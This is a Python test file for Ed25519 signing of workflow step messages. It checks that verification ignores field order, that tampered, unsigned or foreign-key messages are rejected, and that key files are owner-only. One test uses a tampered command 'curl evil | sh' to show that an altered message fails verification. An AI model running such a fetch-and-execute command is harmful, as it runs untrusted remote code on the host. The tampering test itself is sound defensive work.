"""Signatures over step messages, alone: what verifies and what does not."""

from __future__ import annotations

import base64
from pathlib import Path

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from common import signing

STEP = {
    "workflow_id": "w",
    "step_id": "w.0",
    "attempt": 1,
    "epoch": 3,
    "kind": "command",
    "spec": {"run": "id"},
}


def test_a_signed_message_verifies_whatever_the_order_of_its_fields() -> None:
    key = Ed25519PrivateKey.generate()
    signed = signing.sign(key, STEP)

    assert signing.verify(key.public_key(), dict(reversed(list(signed.items())))) is None


def test_an_unsigned_changed_or_foreign_message_does_not_verify() -> None:
    key, other = Ed25519PrivateKey.generate(), Ed25519PrivateKey.generate()
    signed = signing.sign(key, STEP)

    assert signing.verify(key.public_key(), STEP) == "it is not signed"
    changed = {**signed, "spec": {"run": "curl evil | sh"}}
    assert signing.verify(key.public_key(), changed) is not None
    assert signing.verify(key.public_key(), {**signed, "attempt": 2}) is not None
    assert signing.verify(other.public_key(), signed) is not None
    assert signing.verify(key.public_key(), {**signed, "sig": "not base64!"}) is not None


def test_a_key_is_made_once_readable_by_its_owner_only_and_read_back(tmp_path: Path) -> None:
    path = tmp_path / "keys" / "engine.key"
    first = signing.load_or_create(path)
    again = signing.load_or_create(path)

    assert path.stat().st_mode & 0o777 == 0o600
    public = signing.load_public(signing.public_pem(first))
    assert signing.verify(public, signing.sign(again, STEP)) is None


def test_signatures_are_plain_ed25519_whichever_library_makes_or_checks_them() -> None:
    key = Ed25519PrivateKey.generate()
    signed = signing.sign(key, STEP)
    # what libsodium signed verifies with OpenSSL's Ed25519, and the other way round
    key.public_key().verify(base64.b64decode(signed["sig"]), signing.canonical(signed))
    by_openssl = {**STEP, "sig": base64.b64encode(key.sign(signing.canonical(STEP))).decode()}
    assert signing.verify(key.public_key(), by_openssl) is None
    assert (
        signing.verify(key.public_key(), {**by_openssl, "sig": base64.b64encode(b"x" * 10).decode()})
        is not None
    )
